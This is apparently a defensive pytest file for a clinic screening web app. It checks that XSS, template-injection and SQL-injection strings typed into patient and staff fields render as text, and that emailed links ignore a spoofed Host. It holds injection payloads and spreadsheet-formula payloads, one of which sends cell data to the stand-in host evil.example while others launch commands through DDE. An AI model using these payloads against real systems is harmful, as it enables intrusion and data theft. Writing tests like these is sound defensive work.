"""Injection through every free-text field, patients' and staff's.

Script and markup (``<script>``, attribute break-outs), template syntax (``{{7*7}}``,
``{{ config }}``, raw and statement blocks) and SQL metacharacters are typed into each field a
patient fills (first and last name, email, phone, signature, and the browser's User-Agent kept
with the signature) and each one staff fill (decision reasons, the acknowledgement note,
invitation names, a staff member's name and email). Every page that shows them (queue, today,
screening, invitations, audit trail, dashboard, accounts, the patient's own pages) must show
them as text: never a live element or event handler, never evaluated (no ``49``, no config), and
the stored value must be exactly what was typed. Exports must keep the text too, with every cell
that a spreadsheet would run as a formula neutralised as OWASP advises. And the ``Host`` a
request names is attacker input too: links in emails must be built from ``PUBLIC_URL``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from screening.access import ADMIN, MANAGER, NURSE
from screening.extensions import db
from screening.models import Decision, Invitation, Screening
from tests.checking_client import CheckingClient
from tests.intake.patient import ABOUT_YOU, Patient, accept_invitation, csrf_token
from tests.mail_sink import send_outbox
from tests.staff.helpers import make_staff, post_decision, sign_in, signed_in

PAYLOADS = {
    "script element": "<script>alert(1)</script>",
    "attribute break-out": '"><img src=x onerror=alert(1)>',
    "single-quote break-out": "'><svg onload=alert(1)>",
    "template expression": "{{7*7}}",
    "template config": "{{ config }}",
    "template raw block": "{% raw %}{{ config }}{% endraw %}",
    "template statement": "{% for x in range(3) %}loop{% endfor %}",
    "SQL drop": "'; DROP TABLE screenings; --",
    "SQL tautology": "' OR '1'='1",
}
# What a spreadsheet would run: OWASP's trigger characters at the start of a cell.
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
SECRET_KEY = "test-secret"  # the test app's; a dumped config would show it
APP_SCRIPT = "/static/preclear.js"


def as_email(payload: str) -> str:
    """The payload as an address the email check accepts (no spaces, one @)."""
    return payload.replace(" ", "") + "@example.com"


def as_name(payload: str) -> str:
    return payload[:100]


# --- what a page shows, as a browser would build it ----------------------------------------------


@dataclass
class Page:
    elements: list[tuple[str, dict[str, str | None]]]
    text: str

    def attribute_values(self) -> list[str]:
        return [value or "" for _, attrs in self.elements for value in attrs.values()]


class _Parser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.parts: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.parts.append(data)


def parse(html: str) -> Page:
    parser = _Parser()
    parser.feed(html)
    parser.close()
    return Page(parser.elements, "".join(parser.parts))


def assert_inert(html: str, where: str, shows: tuple[str, ...] = ()) -> None:
    """Nothing typed became markup or was evaluated; each of ``shows`` is on the page as typed."""
    page = parse(html)
    scripts = [attrs.get("src") for tag, attrs in page.elements if tag == "script"]
    assert all(src == APP_SCRIPT for src in scripts), (where, scripts)
    # The dashboard draws its own SVG; an injected one would carry a handler, checked below.
    injected = [tag for tag, _ in page.elements if tag in ("img", "iframe", "object", "embed")]
    assert not injected, (where, injected)
    handlers = [(tag, name) for tag, attrs in page.elements for name in attrs if name[:2] == "on"]
    assert not handlers, (where, handlers)
    assert SECRET_KEY not in html, f"{where}: the app's config is on the page"
    assert "<Config" not in page.text, f"{where}: the app's config is on the page"
    for value in shows:
        shown = value in page.text or value in page.attribute_values()
        assert shown, f"{where}: {value!r} is not on the page as typed"


# --- patients' free text -----------------------------------------------------------------------


def submit_as(app: Flask, identity: dict, signature: str, user_agent: str, **pages):
    """A patient completes the questionnaire as ``identity``, signing ``signature`` from a
    browser calling itself ``user_agent``; returns (screening id, result URL, patient)."""
    patient = Patient(app.test_client())
    patient.start()
    patient.answer_all(about_you={**ABOUT_YOU, **identity}, **pages)
    check = patient.client.get("/intake/check")
    assert check.status_code == 200
    assert_inert(check.text, "check your answers", shows=tuple(identity.values()))
    page = patient.client.get("/intake/consent")
    response = patient.client.post(
        "/intake/consent",
        data={"csrf_token": csrf_token(page.text), "signature": signature, "agree": "y"},
        headers={"User-Agent": user_agent},
    )
    assert response.status_code == 303, response.text[:500]
    with app.app_context():
        screening_id = db.session.scalar(select(func.max(Screening.id)))
    return screening_id, response.location, patient.client


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_patient_free_text_is_shown_as_text_on_every_page_and_stored_as_typed(app, clock, payload):
    identity = {
        "first_name": as_name(payload),
        "last_name": as_name("Q" + payload),
        "email": as_email(payload),
    }
    signature = as_name("Signed " + payload)
    sid, result_url, patient = submit_as(
        app, identity, signature, user_agent=f"Mozilla/5.0 {payload}", feeling={"cold_sore": "yes"}
    )

    with app.app_context():
        stored = db.session.get(Screening, sid)
        assert (stored.first_name, stored.last_name, stored.email) == tuple(identity.values())
        assert stored.consent_signature == signature
        assert stored.consent_user_agent == f"Mozilla/5.0 {payload}"
        assert db.session.execute(text("SELECT count(*) FROM screenings")).scalar() == 1

    assert_inert(patient.get(result_url).text, "outcome page", shows=(identity["first_name"],))
    clock.advance(days=9)  # the appointment day, so "today" lists the screening
    nurse = signed_in(app, "nurse@clinic.example", NURSE)
    pages = {
        "queue": ("/staff/?status=all", (identity["first_name"], identity["last_name"])),
        "today": ("/staff/today", (identity["first_name"], identity["last_name"])),
        "screening": (
            f"/staff/screenings/{sid}",
            (*identity.values(), signature, f"Mozilla/5.0 {payload}"),
        ),
    }
    for name, (path, shows) in pages.items():
        response = nurse.get(path)
        assert response.status_code == 200, name
        assert_inert(response.text, name, shows=shows)


@pytest.mark.parametrize("payload", [PAYLOADS["script element"], PAYLOADS["SQL drop"]])
def test_an_attack_typed_as_a_phone_number_is_refused_and_shown_back_as_text(app, payload):
    patient = Patient(app.test_client())
    patient.start()
    response = patient.answer("about_you", {**ABOUT_YOU, "phone": payload})
    assert response.status_code in (200, 400)
    assert "Enter a phone number" in response.text
    assert_inert(response.text, "about you", shows=(payload,))


# --- staff's free text -------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_staff_free_text_is_shown_as_text_on_every_page(app, payload):
    """A nurse whose name and email are attacks writes attacks as reasons and invitations."""
    nurse_name, nurse_email = as_name(f"N {payload}"), as_email(payload).lower()
    nurse_id = make_staff(app, nurse_email, NURSE, name=nurse_name)
    nurse = app.test_client()
    assert sign_in(nurse, nurse_email).status_code == 303
    sid, _, _ = submit_as(
        app,
        {"first_name": "Ana", "last_name": "Lopez"},
        "Ana Lopez",
        "TestPhone/1.0",
        pregnancy={"pregnant": "unsure"},
        feeling={"cold_sore": "yes"},
    )
    reason = f"Reason {payload}"
    note = f"Note {payload}"
    assert (
        post_decision(nurse, sid, "/findings/pregnancy/resolve", {"reason": reason}).status_code
        == 303
    )
    assert (
        post_decision(nurse, sid, "/acknowledge", {"new_date": "", "reason": note}).status_code
        == 303
    )
    page = nurse.get("/staff/invitations")
    invited = {"first_name": as_name(payload), "last_name": as_name("I" + payload)}
    created = nurse.post(
        "/staff/invitations",
        data={
            "csrf_token": csrf_token(page.text),
            **invited,
            "email": "invitee@example.com",
            "phone": "",
            "treatment": "pdo_smooth_threads",
            "appointment_date": "2026-12-20",
            "appointment_time": "10:00",
        },
    )
    assert created.status_code == 200, created.text[:500]
    assert_inert(created.text, "invitation created", shows=tuple(invited.values()))

    with app.app_context():
        assert sorted(db.session.scalars(select(Decision.reason))) == sorted([reason, note])
        invitation = db.session.scalar(select(Invitation))
        assert (invitation.first_name, invitation.last_name) == tuple(invited.values())

    screening = nurse.get(f"/staff/screenings/{sid}")
    assert_inert(screening.text, "screening", shows=(reason, note, nurse_name))
    assert_inert(nurse.get("/staff/invitations").text, "invitations", shows=tuple(invited.values()))

    manager = signed_in(app, "manager@clinic.example", MANAGER)
    for name, path, shows in (
        ("audit trail", "/staff/records/audit", (nurse_email,)),
        ("audit trail filtered", "/staff/records/audit?staff=" + nurse_email, (nurse_email,)),
        ("dashboard", "/staff/records/dashboard", (nurse_name,)),
        ("exports", "/staff/records/exports", ()),
        ("queue", "/staff/?status=all", ()),
    ):
        response = manager.get(path)
        assert response.status_code == 200, name
        assert_inert(response.text, name, shows=shows)

    admin = signed_in(app, "admin@clinic.example", ADMIN)
    accounts = admin.get("/staff/accounts")
    assert_inert(accounts.text, "accounts", shows=(nurse_name,))
    switched = admin.post(
        f"/staff/accounts/{nurse_id}/active",
        data={"csrf_token": csrf_token(accounts.text), "active": "0"},
        follow_redirects=True,
    )
    assert_inert(switched.text, "accounts after switching off", shows=(nurse_name,))


def test_an_invited_patient_sees_the_names_staff_typed_as_text(app):
    payload = PAYLOADS["attribute break-out"]
    nurse = signed_in(app, "nurse@clinic.example", NURSE)
    page = nurse.get("/staff/invitations")
    created = nurse.post(
        "/staff/invitations",
        data={
            "csrf_token": csrf_token(page.text),
            "first_name": payload,
            "last_name": PAYLOADS["template expression"],
            "email": "invitee@example.com",
            "phone": "",
            "treatment": "pdo_smooth_threads",
            "appointment_date": "2026-12-20",
            "appointment_time": "10:00",
        },
    )
    link = re.search(r'href="http://clinic\.test(/intake/invite/[^"]+)"', created.text).group(1)
    patient = app.test_client()
    assert accept_invitation(patient, link).status_code == 303
    about_you = patient.get("/intake/about_you")
    assert_inert(about_you.text, "invited about you", shows=(payload, "{{7*7}}"))


# --- SQL metacharacters in filters -------------------------------------------------------------


def test_sql_metacharacters_in_filters_are_values_never_sql(app):
    submit_as(app, {"last_name": PAYLOADS["SQL drop"]}, "Ana", "TestPhone/1.0")
    manager = signed_in(app, "manager@clinic.example", MANAGER)
    nurse = signed_in(app, "nurse@clinic.example", NURSE)
    tautologies = ("' OR '1'='1", "x' OR 1=1 --", "1; DROP TABLE audit_events; --", "%' --")
    for value in tautologies:
        audit = manager.get("/staff/records/audit", query_string={"staff": value})
        assert audit.status_code == 200, value
        assert "0 rows." in parse(audit.text).text, value
        for path, field in (
            ("/staff/", "treatment"),
            ("/staff/", "status"),
            ("/staff/", "date_from"),
            ("/staff/records/exports", "treatment"),
            ("/staff/records/exports", "outcome"),
            ("/staff/records/dashboard", "date_to"),
        ):
            client = nurse if path == "/staff/" else manager
            response = client.get(path, query_string={field: value})
            assert response.status_code in (200, 400), (path, field, value)
            assert_inert(response.text, f"{path}?{field}", shows=())
        exported = manager.get("/staff/records/exports.csv", query_string={"treatment": value})
        assert exported.status_code == 400, value
    with app.app_context():
        for table in ("screenings", "audit_events", "staff_users", "decisions"):
            db.session.execute(text(f"SELECT count(*) FROM {table}")).scalar()  # noqa: S608


# --- exports -----------------------------------------------------------------------------------


def neutralised(value: str) -> str:
    return "'" + value if value.startswith(TRIGGERS) else value


def exported_rows(manager: FlaskClient) -> list[dict[str, str]]:
    response = manager.get("/staff/records/exports.csv")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_exports_keep_the_text_and_neutralise_every_formula(app):
    nurse_name = FORMULAS["equals"][:100]
    make_staff(app, "formula.nurse@clinic.example", NURSE, name=nurse_name)
    nurse = app.test_client()
    assert sign_in(nurse, "formula.nurse@clinic.example").status_code == 303
    people = {}
    for formula in (*FORMULAS.values(), PAYLOADS["attribute break-out"]):
        identity = {
            "first_name": formula,
            "last_name": formula,
            "email": as_email(formula.replace("@", "")),
        }
        sid, _, _ = submit_as(
            app, identity, "Sig", "TestPhone/1.0", pregnancy={"pregnant": "unsure"}
        )
        people[sid] = identity
    # A reason may start with a tab (names may not); what is stored must still export inert.
    first_sid = next(iter(people))
    post_decision(nurse, first_sid, "/findings/pregnancy/resolve", {"reason": "\t=1+1"})
    with app.app_context():
        (stored_reason,) = db.session.scalars(select(Decision.reason)).all()
    assert stored_reason.startswith(("\t", "="))
    manager = signed_in(app, "manager@clinic.example", MANAGER)

    rows = {int(row["id"]): row for row in exported_rows(manager)}
    assert set(rows) == set(people)
    for sid, identity in people.items():
        for column, value in identity.items():
            assert rows[sid][column] == neutralised(value), (sid, column)
    first = rows[first_sid]
    assert first["reviewer"] == neutralised(nurse_name)
    assert first["decision_reasons"] == neutralised(stored_reason)
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]

    xlsx = manager.get("/staff/records/exports.xlsx")
    assert xlsx.status_code == 200
    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for sheet in sheets:
            assert "<f>" not in archive.read(sheet).decode(), "a formula in the workbook"
    sheet = load_workbook(io.BytesIO(xlsx.data), read_only=True).active
    header, *values = [list(row) for row in sheet.iter_rows(values_only=True)]
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in values}
    for sid, identity in people.items():
        for column, value in identity.items():
            assert by_id[sid][column] == neutralised(value), (sid, column)
    assert not [
        cell for row in values for cell in row if isinstance(cell, str) and cell.startswith("=")
    ]

    fhir = manager.get("/staff/records/exports.ndjson")
    assert fhir.status_code == 200
    resources = [json.loads(line) for line in fhir.get_data(as_text=True).splitlines() if line]
    assert resources  # JSON is not a spreadsheet: its text is kept exactly, and parses


# --- the Host header --------------------------------------------------------------------------


class ClientNamingHost(CheckingClient):
    """A client whose every request names ``evil.example`` as the host (curl can send any)."""

    def open(self, *args, **kwargs):
        kwargs.setdefault("base_url", "http://evil.example")
        return super().open(*args, **kwargs)


def test_links_in_emails_use_the_public_url_whatever_host_a_request_names(make_app, mail):
    """Otherwise anyone can make the clinic email any address a link to a host of their own."""
    app = make_app(
        SERVER_NAME=None,
        PUBLIC_URL="https://clinic.example",
        MAIL_SERVER="127.0.0.1",
        MAIL_PORT=mail.port,
    )
    app.test_client_class = ClientNamingHost
    attacker = Patient(app.test_client())
    attacker.start()
    saved = attacker.answer("about_you", {**ABOUT_YOU, "email": "victim@example.org"})
    assert saved.status_code == 303
    token = csrf_token(attacker.client.get("/intake/about_you").text)
    assert attacker.client.post("/intake/email-link", data={"csrf_token": token}).status_code == 303

    make_staff(app, "nurse@clinic.example", NURSE)
    nurse = app.test_client()
    assert sign_in(nurse, "nurse@clinic.example").status_code == 303
    page = nurse.get("/staff/invitations")
    nurse.post(
        "/staff/invitations",
        data={
            "csrf_token": csrf_token(page.text),
            "first_name": "Ida",
            "last_name": "Vance",
            "email": "ida@example.org",
            "phone": "",
            "treatment": "pdo_smooth_threads",
            "appointment_date": "2026-12-20",
            "appointment_time": "10:00",
        },
    )
    send_outbox(app)  # the links were written when queued, inside the attacker's requests
    links = [
        link
        for message in mail.messages
        for link in re.findall(r"https?://\S+", message.get_content())
    ]
    assert len(links) == 2, links
    wrong = [link for link in links if not link.startswith("https://clinic.example/intake/")]
    assert not wrong, f"emailed links built from the request's Host: {wrong}"
